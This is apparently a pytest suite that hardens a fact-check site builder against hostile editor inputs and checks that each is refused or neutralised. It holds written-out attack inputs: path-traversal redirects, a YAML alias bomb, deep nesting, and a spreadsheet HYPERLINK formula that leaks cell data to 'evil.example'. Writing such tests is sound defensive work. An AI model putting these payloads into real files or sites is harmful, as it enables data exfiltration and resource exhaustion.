"""A hostile editor's inputs: each is refused with a located, exact message, or handled without harm.

The cases of the hardening review, one test each: nothing written outside the site, no input that
exhausts memory, no traceback, the old site untouched when a build fails.
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from corpus_site.devtools.cli import main
from corpus_site.plugin import build as build_module

from conftest import PROJECT, Run


def snapshot(folder: Path) -> dict[str, bytes]:
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


def check(cli: Callable[..., Run], root: Path) -> list[str]:
    result = cli("--root", root, "check")
    assert result.code == 1, result.err
    return result.problem_lines


def test_redirect_that_climbs_out_of_the_site_is_refused_and_writes_nothing(mini: Path, cli: Callable[..., Run]) -> None:
    (mini / "redirects.yaml").write_text('"../../../pwned/": claims/hezbollah-surprised/\n', encoding="utf-8")
    outside = sorted(path.name for path in mini.parent.iterdir())
    result = cli("--root", mini, "build")
    assert result.code == 1
    assert result.problem_lines == [
        "redirects.yaml:1:1: error[bad-redirect]: redirect '../../../pwned/: claims/hezbollah-surprised/' must map a site path to a site path "
        "(both are folders inside the site ending in '/', such as 'claims/old-id/: claims/new-id/'; no leading '/', no '..', "
        "no address of another site)"
    ]
    assert sorted(path.name for path in mini.parent.iterdir()) == outside
    assert not (mini / "site").exists()


@pytest.mark.parametrize("path", ["/claims/x/", "claims/../../x/", "https://example.org/x/", "claims\\x/", "./x/", "claims//x/"])
def test_every_kind_of_path_outside_the_site_is_refused(path: str, mini: Path, cli: Callable[..., Run]) -> None:
    (mini / "redirects.yaml").write_text(f"'{path}': claims/hezbollah-surprised/\n", encoding="utf-8")
    assert [line.split(": error[")[1].split("]")[0] for line in check(cli, mini)] == ["bad-redirect"]


def test_redirect_to_an_index_page_is_written(mini: Path, cli: Callable[..., Run]) -> None:
    (mini / "redirects.yaml").write_text("claims/old-claim/: claims/\n", encoding="utf-8")
    assert cli("--root", mini, "build", "--strict").code == 0
    page = (mini / "site" / "claims" / "old-claim" / "index.html").read_text(encoding="utf-8")
    assert '<meta http-equiv="refresh" content="0; url=../">' in page


def test_alias_bomb_is_refused_at_the_alias_quickly(mini: Path, cli: Callable[..., Run]) -> None:
    # ten levels of ten aliases each: 10^9 values if expanded
    lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"]
    for level in range(1, 10):
        name, previous = chr(ord("a") + level), chr(ord("a") + level - 1)
        lines.append(f"{name}: &{name} [{', '.join([f'*{previous}'] * 10)}]")
    (mini / "events.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert check(cli, mini) == [
        "events.yaml:6:36: error[alias-bomb]: alias '*e' makes this file expand to more than 1,000,000 values "
        "(aliases that repeat aliases multiply; write the values out, or use fewer levels of aliases)"
    ]


def test_deep_nesting_through_an_alias_is_refused(mini: Path, cli: Callable[..., Run]) -> None:
    (mini / "events.yaml").write_text("deep: &d " + "[" * 900 + "]" * 900 + "\nevents: *d\n", encoding="utf-8")
    assert check(cli, mini) == [
        "events.yaml:1:109: error[too-deep]: values nest 101 levels deep here, more than the 100 this reader accepts "
        "(records nest a few levels deep; check the indentation or the aliases)"
    ]


@pytest.mark.parametrize(
    ("tagged", "expected"),
    [
        ("!!int abc", "'abc' is not a valid !!int value (remove the '!!int' tag, or write a valid int)"),
        ("!!bool maybe", "'maybe' is not a valid !!bool value (remove the '!!bool' tag, or write a valid bool)"),
        ("!!timestamp soon", "'soon' is not a valid !!timestamp value (remove the '!!timestamp' tag, or write a valid timestamp)"),
    ],
)
def test_explicit_tag_with_a_bad_value_is_located(tagged: str, expected: str, mini: Path, cli: Callable[..., Run]) -> None:
    events = mini / "events.yaml"
    events.write_text(events.read_text(encoding="utf-8").replace("date_precision: day", f"date_precision: {tagged}"), encoding="utf-8")
    assert check(cli, mini) == [f"events.yaml:5:21: error[bad-tag]: {expected}"]


@pytest.mark.parametrize("kind", ["claim", "actor"])
def test_record_id_that_names_a_list_page_is_reserved(kind: str, mini: Path, cli: Callable[..., Run]) -> None:
    if kind == "claim":
        claims = mini / "claims.yaml"
        claims.write_text(claims.read_text(encoding="utf-8").replace("  - id: hezbollah-surprised", "  - id: index"), encoding="utf-8")
        expected = "claims.yaml:15:9: error[reserved-id]: 'index' cannot be a claim id: the site uses it for the list of claims"
    else:
        actors = mini / "actors.yaml"
        actors.write_text(
            actors.read_text(encoding="utf-8").replace("actors:\n", "actors:\n  - id: index\n    name: Index\n    kind: state\n")
        )
        expected = "actors.yaml:2:9: error[reserved-id]: 'index' cannot be an actor id: the site uses it for the list of actors"
    assert f"{expected} (choose another id (reserved: index))" in check(cli, mini)


def test_manifest_that_is_not_utf8_or_not_a_file_is_located(mini: Path, cli: Callable[..., Run]) -> None:
    manifest = mini / "urls.txt"
    manifest.write_bytes(b"/\nclaims/caf\xe9/\n")
    assert check(cli, mini) == [
        "urls.txt:2:11: error[encoding]: urls.txt is not valid UTF-8 (byte 0xe9) (save the file as UTF-8; it lists one site path per line)"
    ]
    manifest.unlink()
    manifest.mkdir()
    assert check(cli, mini) == ["urls.txt:1:1: error[unreadable-file]: urls.txt is a folder, not a file (replace the folder by the file)"]


def test_records_file_that_is_a_folder_is_located(mini: Path, cli: Callable[..., Run]) -> None:
    (mini / "events.yaml").unlink()
    (mini / "events.yaml").mkdir()
    assert (
        check(cli, mini)[0]
        == "events.yaml:1:1: error[unreadable-file]: events.yaml is a folder, not a file (replace the folder by the file)"
    )


@pytest.mark.parametrize(
    ("make", "expected"),
    [
        (lambda path: path.mkdir(), "is a folder, not a file (replace the folder by the file)"),
        (
            lambda path: path.symlink_to("/nonexistent/b.txt"),
            "is a broken symbolic link (to /nonexistent/b.txt) (point the link at an existing file, or replace it by the file)",
        ),
    ],
)
def test_seed_that_is_not_a_file_is_said_once_where_the_source_names_it(
    make: Callable[[Path], None], expected: str, mini: Path, cli: Callable[..., Run]
) -> None:
    seed = mini / "seeds" / "b.txt"
    seed.unlink()
    make(seed)
    assert check(cli, mini) == [f"seeds/sources.yaml:14:16: error[unreadable-seed]: seeds/b.txt {expected}"]


def test_unclosed_quote_is_placed_where_it_opened(mini: Path, cli: Callable[..., Run]) -> None:
    claims = mini / "claims.yaml"
    text = claims.read_text(encoding="utf-8")
    claims.write_text(
        text.replace("statement: Iran gives Hamas about $100 million a year.", 'statement: "Iran gives Hamas about $100 million a year.')
    )
    assert check(cli, mini) == [
        "claims.yaml:21:17: error[syntax]: YAML syntax error: did not find expected key, while parsing a block mapping that starts at 2:5, "
        "after the quoted string that starts at 3:16 and runs to 21:17 "
        "(is the closing quotation mark of the string that starts at 3:16 missing?)"
    ]


def test_unclosed_quote_at_the_end_of_the_file_names_where_it_opened(mini: Path, cli: Callable[..., Run]) -> None:
    events = mini / "events.yaml"
    events.write_text(events.read_text(encoding="utf-8").replace("title: Hamas attack on Israel", "title: 'Hamas attack on Israel"))
    assert check(cli, mini) == [
        "events.yaml:8:1: error[syntax]: YAML syntax error: found unexpected end of stream, while scanning a quoted scalar that starts at 3:12 "
        "(close the quotation mark opened at 3:12)"
    ]


def test_quote_found_in_another_article_says_which(mini: Path, cli: Callable[..., Run]) -> None:
    claims = mini / "claims.yaml"
    text = claims.read_text(encoding="utf-8")
    claims.write_text(
        text.replace("quote: Hezbollah knew nothing of the attack", "quote: Iran provides about $100 million a year to Hamas")
    )
    assert check(cli, mini) == [
        "claims.yaml:25:16: error[quote-not-found]: quote not found in source 'beta' (the quote is in 'alpha' (a.txt:2); correct 'source:')"
    ]


def test_site_dir_that_cannot_be_made_fails_cleanly(mini: Path, cli: Callable[..., Run]) -> None:
    blocker = mini / "not-a-folder"
    blocker.write_text("a file where the site's parent folder should be\n", encoding="utf-8")
    result = cli("--root", mini, "build", "--site-dir", blocker / "site")
    assert result.code == 1
    assert result.err.splitlines()[-1] == (
        f"build FAILED: cannot write the site next to {blocker / 'site'} ({blocker} is a file, not a folder); the previous site was left as it was"
    )


def test_ctrl_c_during_a_build_leaves_the_old_site_and_no_staging(
    mini: Path, cli: Callable[..., Run], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert cli("--root", mini, "build").code == 0
    before = snapshot(mini / "site")

    def interrupted(*args: object, strict: bool) -> None:
        site_dir = args[-1]
        assert isinstance(site_dir, Path)
        (site_dir / "half-written.html").write_text("<p>", encoding="utf-8")
        raise KeyboardInterrupt

    monkeypatch.setattr(build_module, "_mkdocs_build", interrupted)
    result = cli("--root", mini, "build")
    assert result.code == 130
    assert result.err.strip().splitlines()[-1] == "interrupted; nothing was changed (the previous site, if any, was left as it was)"
    assert "Traceback" not in result.err
    assert snapshot(mini / "site") == before
    assert not [path.name for path in mini.iterdir() if path.name.startswith(".site-")]


def test_folders_left_by_killed_builds_are_cleared(mini: Path, cli: Callable[..., Run]) -> None:
    dead = 2**22 + 12345  # above Linux's default pid_max: no process has it
    staging = mini / f".site-build-{dead}-abcd"
    retired = mini / f".site-old-{dead}"
    for folder in (staging, retired):
        folder.mkdir()
        (folder / "index.html").write_text("left over", encoding="utf-8")
    alive = mini / f".site-build-{os.getppid()}-live"  # a build still running in another process
    alive.mkdir()
    assert cli("--root", mini, "build").code == 0
    assert not staging.exists() and not retired.exists()
    assert alive.exists()


def test_did_you_mean_does_not_depend_on_the_hash_seed(mini: Path) -> None:
    actors = mini / "actors.yaml"
    actors.write_text(
        actors.read_text(encoding="utf-8")
        + "  - id: hamas-officials\n    name: Hamas officials\n    kind: group-of-people\n"
        + "  - id: hamas-political-bureau\n    name: Hamas political bureau\n    kind: organisation\n",
        encoding="utf-8",
    )
    claims = mini / "claims.yaml"
    claims.write_text(claims.read_text(encoding="utf-8").replace("    actors: [hezbollah]", "    actors: [hamaz]"), encoding="utf-8")
    hints = set()
    for seed in ("0", "1", "2", "3", "4", "5"):
        result = subprocess.run(
            [sys.executable, str(PROJECT / "build_site.py"), "--root", str(mini), "check"],
            capture_output=True,
            text=True,
            env={**os.environ, "PYTHONHASHSEED": seed},
            check=False,
        )
        hints |= {line for line in result.stderr.splitlines() if "hamaz" in line}
    assert hints == {"claims.yaml:17:14: error[unknown-actor]: 'hamaz' is not an actor id (did you mean 'hamas'?)"}


def test_csv_cells_never_become_formulas(mini: Path, cli: Callable[..., Run]) -> None:
    events = mini / "events.yaml"
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    events.write_text(events.read_text(encoding="utf-8").replace("title: Hamas attack on Israel", f"title: '{payload}'"), encoding="utf-8")
    claims = mini / "claims.yaml"
    claims.write_text(claims.read_text(encoding="utf-8").replace("statement: Hezbollah was", "statement: +Hezbollah was"), encoding="utf-8")
    assert cli("--root", mini, "build").code == 0
    data = mini / "site" / "data"
    for name in ("events", "claims"):
        with (data / f"{name}.csv").open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], name
    with (data / "events.csv").open(encoding="utf-8", newline="") as file:
        assert f"'{payload}" in [cell for row in csv.reader(file) for cell in row]


def test_quote_anchors_do_not_move_when_evidence_is_reordered(mini: Path, cli: Callable[..., Run]) -> None:
    assert cli("--root", mini, "build").code == 0
    source = (mini / "site" / "sources" / "alpha" / "index.html").read_text(encoding="utf-8")
    assert 'id="q-iran-funds-hamas-amount-32-80"' in source
    claims = mini / "claims.yaml"
    text = claims.read_text(encoding="utf-8")
    first = "      - source: alpha\n        quote: Iran provides about $100 million a year to Hamas\n        stance: supports\n"
    first += "        speakers: [israel]\n        attribution: according to Israel\n"
    second = "      - source: beta\n        quote: Iran gives Hamas tens of millions of dollars per year\n        stance: qualifies\n"
    assert first + second in text
    claims.write_text(text.replace(first + second, second + first), encoding="utf-8")
    assert cli("--root", mini, "build").code == 0
    assert 'id="q-iran-funds-hamas-amount-32-80"' in (mini / "site" / "sources" / "alpha" / "index.html").read_text(encoding="utf-8")
    claim = (mini / "site" / "claims" / "iran-funds-hamas-amount" / "index.html").read_text(encoding="utf-8")
    assert 'href="../../sources/alpha/#q-iran-funds-hamas-amount-32-80"' in claim


def test_anchors_published_before_keep_leading_to_their_place(mini: Path, cli: Callable[..., Run]) -> None:
    (mini / "quote-anchors.txt").write_text("# published anchors\nq-iran-funds-hamas-amount-1 alpha 32\n", encoding="utf-8")
    assert cli("--root", mini, "build").code == 0
    page = (mini / "site" / "sources" / "alpha" / "index.html").read_text(encoding="utf-8")
    line = page[page.index('id="L2"') : page.index('id="L3"')]
    assert '<span class="q-anchor" id="q-iran-funds-hamas-amount-1"></span>' in line
    (mini / "quote-anchors.txt").write_text("q-x-1 gamma 32\n", encoding="utf-8")
    assert check(cli, mini) == [
        "quote-anchors.txt:1:1: error[bad-anchor]: 'q-x-1 gamma 32' is not 'anchor article offset' with a known article and an offset "
        "inside it (this file lists anchors already published; restore the line from version control)"
    ]


def test_the_real_corpus_keeps_every_published_quote_anchor() -> None:
    listed = [line.split()[0] for line in (PROJECT / "quote-anchors.txt").read_text(encoding="utf-8").splitlines() if line[:1] == "q"]
    assert len(listed) == 814 == len(set(listed))


def test_merge_keys_read_as_pyyaml_reads_them(mini: Path, cli: Callable[..., Run]) -> None:
    events = mini / "events.yaml"
    text = events.read_text(encoding="utf-8")
    events.write_text("base: &day {date_precision: day}\n" + text.replace("    date_precision: day\n", "    <<: *day\n"), encoding="utf-8")
    result = cli("--root", mini, "check")
    assert result.problem_lines == ["events.yaml:1:1: error[unknown-field]: unknown top-level key 'base' in events.yaml (expected events)"]


def test_main_never_lets_an_exception_out_for_a_missing_root(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--root", str(tmp_path / "nowhere"), "check"]) == 2
    assert "is not a folder" in capsys.readouterr().err


@pytest.mark.parametrize(
    "document",
    [
        "a: 1\nb: [1, 2, {c: 3}]\n",
        "base: &b {x: 1, y: 2}\nc:\n  <<: *b\n  y: 3\n",
        "one: &o {x: 1}\ntwo: &t {z: 2, x: 5}\nc:\n  <<: [*o, *t]\n  w: 0\n",
        "a: &a [1, 2]\nb: *a\nc: *a\n",
        "- &x hello\n- *x\n- {k: *x}\n",
        "x: !!str 12\ny: !!float 1\nz: 2023-10-07\n",
    ],
)
def test_reader_agrees_with_pyyaml_safe_loader(document: str) -> None:
    import yaml

    from corpus_site.records.yaml_reader import RecordLoader, parse_yaml

    assert parse_yaml(document)[0] == yaml.load(document, Loader=RecordLoader)
